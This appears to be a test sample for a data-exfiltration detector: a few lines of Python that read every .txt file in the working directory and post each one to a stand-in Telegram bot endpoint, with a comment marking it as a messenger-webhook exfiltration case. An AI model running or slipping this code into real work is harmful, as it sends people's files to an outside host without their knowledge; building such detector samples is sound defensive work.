import pathlib
import urllib.request

place = "https://api.telegram.example/bot" + "x/sendMessage"
for path in pathlib.Path(".").glob("*.txt"):
    # miss: data-exfiltration/messenger-webhook
    urllib.request.urlopen(place, data=path.read_bytes())
